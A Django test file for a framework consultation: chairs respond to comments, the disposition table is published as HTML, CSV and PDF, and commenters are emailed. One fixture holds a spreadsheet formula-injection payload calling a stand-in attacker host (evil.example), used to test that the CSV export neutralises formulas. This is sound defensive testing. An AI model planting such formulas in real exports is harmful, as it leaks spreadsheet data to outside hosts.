"""After closing: the working group responds, publishes the disposition table
(page and CSV) and the commenters hear of it by email."""

import csv
import io

import pytest
from django.core import mail

from community.models import Membership, Profile, WorkingGroup
from frameworks import constants
from frameworks.consultation_models import Response
from frameworks.consultation_services import post_comment

from .consultation_helpers import comment_data, set_dates

pytestmark = pytest.mark.django_db

URL = "/frameworks/micro-certification-framework/consultation/1.1/"


def _post(author, consultation, clause="", **extra):
    data = comment_data(**extra)
    data.pop("clause")
    return post_comment(
        author=author, consultation=consultation, clause_number=clause, **data
    )


@pytest.fixture
def commented(consultation, established_member, second_commenter):
    first = _post(
        established_member,
        consultation,
        "3.1",
        type="change",
        body="Say how.",
        replacement="Every micro-certification is assessed against its outcomes.",
    )
    second = _post(
        second_commenter,
        consultation,
        "",
        type="concern",
        body='=HYPERLINK("https://evil.example/?"&A1)',
        organisation="@Acme",
        organisation_type="employer",
        role="Manager",
    )
    set_dates(consultation, opens=-9, closes=-1)
    return first, second


@pytest.fixture
def second_commenter(established_member):
    from datetime import timedelta

    from django.utils import timezone

    from tests.conftest import make_user

    user = make_user("bo@example.org", first_name="Bo", last_name="Builder")
    user.date_joined = timezone.now() - timedelta(days=60)
    user.save(update_fields=["date_joined"])
    return user


def _respond(client, comment, disposition="accepted", reason="Agreed.", change=""):
    prefix = f"c{comment.pk}"
    return client.post(
        f"{URL}respond/{comment.pk}/",
        {
            f"{prefix}-disposition": disposition,
            f"{prefix}-reason": reason,
            f"{prefix}-change": change,
        },
    )


def test_responses_wait_for_the_close_and_the_working_group(
    client, consultation, established_member, staff_with_mfa, staff
):
    comment = _post(established_member, consultation, "3.1")
    client.force_login(staff)
    assert client.get(URL + "respond/").status_code == 404  # still open
    set_dates(consultation, opens=-9, closes=-1)
    client.force_login(established_member)
    assert client.get(URL + "respond/").status_code == 404
    assert _respond(client, comment).status_code == 404
    assert not Response.objects.exists()


def test_a_chair_responds_and_bad_input_changes_nothing(
    client, commented, staff_with_mfa
):
    from tests.conftest import make_user

    chair = make_user("chair@example.org", first_name="Chloe", last_name="Chair")
    group = WorkingGroup.objects.create(
        name=constants.WORKING_GROUP, slug="working-group"
    )
    Membership.objects.create(
        working_group=group, user=chair, status="active", is_chair=True
    )
    first, _second = commented
    client.force_login(chair)
    page = client.get(URL + "respond/")
    assert page.status_code == 200
    assert "2 comments wait for a response." in page.content.decode()
    response = _respond(client, first, reason="")
    assert response.status_code == 400
    assert "There is a problem" in response.content.decode()
    assert not Response.objects.exists()
    response = _respond(client, first, "partly", "Outcomes yes, wording ours.", "X.")
    assert response.status_code == 302
    saved = Response.objects.get()
    assert (saved.disposition, saved.change, saved.responded_by) == (
        "partly",
        "X.",
        chair,
    )


def test_publishing_the_disposition_table_and_telling_the_commenters(
    client,
    commented,
    staff_with_mfa,
    staff,
    established_member,
    second_commenter,
    django_capture_on_commit_callbacks,
):
    first, second = commented
    Profile.objects.update_or_create(
        user=second_commenter, defaults={"email_preference": "none"}
    )
    client.force_login(staff)
    # Not public before it is published, nor while a comment waits.
    client.logout()
    assert client.get(URL + "disposition/").status_code == 404
    assert client.get(URL + "disposition/csv/").status_code == 404
    client.force_login(staff)
    _respond(client, first, "accepted", "Clearer.", "Assessed against outcomes.")
    response = client.post(URL + "publish/", {"next_version": ""}, follow=True)
    assert "1 comments still wait for a response." in response.content.decode()
    assert not mail.outbox
    _respond(client, second, "out_of_scope", "Not about the framework.")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(URL + "publish/", {"next_version": ""})
    assert response.status_code == 302
    # One email, to the commenter who accepts email; not to the one who opted out.
    assert [message.to for message in mail.outbox] == [[established_member.email]]
    assert URL + "disposition/" in mail.outbox[0].body
    # Anyone reads the table now.
    client.logout()
    html = client.get(URL + "disposition/").content.decode()
    assert "Assessed against outcomes." in html
    assert "Out of scope" in html and "Not about the framework." in html
    assert "Accepted" in html
    # And the responses show beside the comments.
    assert "Clearer." in client.get(URL + "clause/3.1/").content.decode()


def test_the_next_version_cites_its_disposition(
    client, commented, staff_with_mfa, staff, draft_framework
):
    from frameworks.consultation_services import publish_disposition, respond
    from frameworks.models import FrameworkPage

    for comment in commented:
        respond(by=staff, comment=comment, disposition="accepted", reason="Yes.")
    page = FrameworkPage.objects.get(pk=draft_framework.pk)
    page.get_latest_revision().publish()
    version = page.versions.get(number="1.1")
    publish_disposition(
        by=staff, consultation=commented[0].consultation, next_version=version
    )
    html = client.get("/frameworks/micro-certification-framework/").content.decode()
    assert f'href="{URL}disposition/"' in html
    assert "How the comments on draft 1.1 were answered" in html


def test_the_disposition_csv_neutralises_formulas_and_holds_no_email(
    client, commented, staff_with_mfa, staff
):
    first, second = commented
    client.force_login(staff)
    _respond(client, first)
    _respond(client, second, "not_accepted", "-1 for this")
    client.post(URL + "publish/", {"next_version": ""})
    client.logout()
    response = client.get(URL + "disposition/csv/")
    assert response["Content-Type"].startswith("text/csv")
    body = response.content.decode()
    assert "@example.org" not in body
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0][0] == "Clause"
    # Whole-draft comments first, then the clauses in the draft's order.
    assert [row[0] for row in rows[1:]] == ["Whole draft", "3.1"]
    general = rows[1]
    assert general[8].startswith("'=HYPERLINK")
    assert general[4] == "'@Acme"
    assert general[11] == "'-1 for this"
    assert rows[2][1] == "Every micro-certification is assessed."
    assert rows[2][9] == "Every micro-certification is assessed against its outcomes."


def test_the_disposition_costs_the_same_for_more_comments(
    client,
    consultation,
    established_member,
    second_commenter,
    staff_with_mfa,
    staff,
    settings,
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from frameworks.consultation_services import publish_disposition, respond

    settings.CONSULTATION_COMMENT_RATE = "100/h"

    def finish(comments):
        set_dates(consultation, opens=-9, closes=-1)
        for comment in comments:
            respond(by=staff, comment=comment, disposition="accepted", reason="Ok.")
        publish_disposition(by=staff, consultation=consultation)

    def cost():
        with CaptureQueriesContext(connection) as page:
            assert client.get(URL + "disposition/").status_code == 200
        with CaptureQueriesContext(connection) as export:
            assert client.get(URL + "disposition/csv/").status_code == 200
        return len(page), len(export)

    finish([_post(established_member, consultation, "2.1", body="One.")])
    cost()
    few = cost()
    set_dates(consultation, opens=-1, closes=5)
    more = []
    for n in range(5):
        more.append(_post(second_commenter, consultation, "1.1", body=f"Two {n}."))
        more.append(_post(established_member, consultation, "", body=f"Three {n}."))
    finish(more)
    assert cost() == few


def test_the_disposition_as_pdf(client, commented, staff_with_mfa, staff):
    from pypdf import PdfReader

    first, second = commented
    client.force_login(staff)
    _respond(client, first, "accepted", "Clearer.", "Assessed against outcomes.")
    _respond(client, second, "out_of_scope", "Not about the framework.")
    client.post(URL + "publish/", {"next_version": ""})
    client.logout()
    response = client.get(URL + "disposition/pdf/")
    assert response["Content-Type"] == "application/pdf"
    text = " ".join(
        page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages
    )
    assert "Disposition of comments on Micro-certification framework 1.1" in text
    assert "Assessed against outcomes." in " ".join(text.split())
    assert "Out of scope" in text
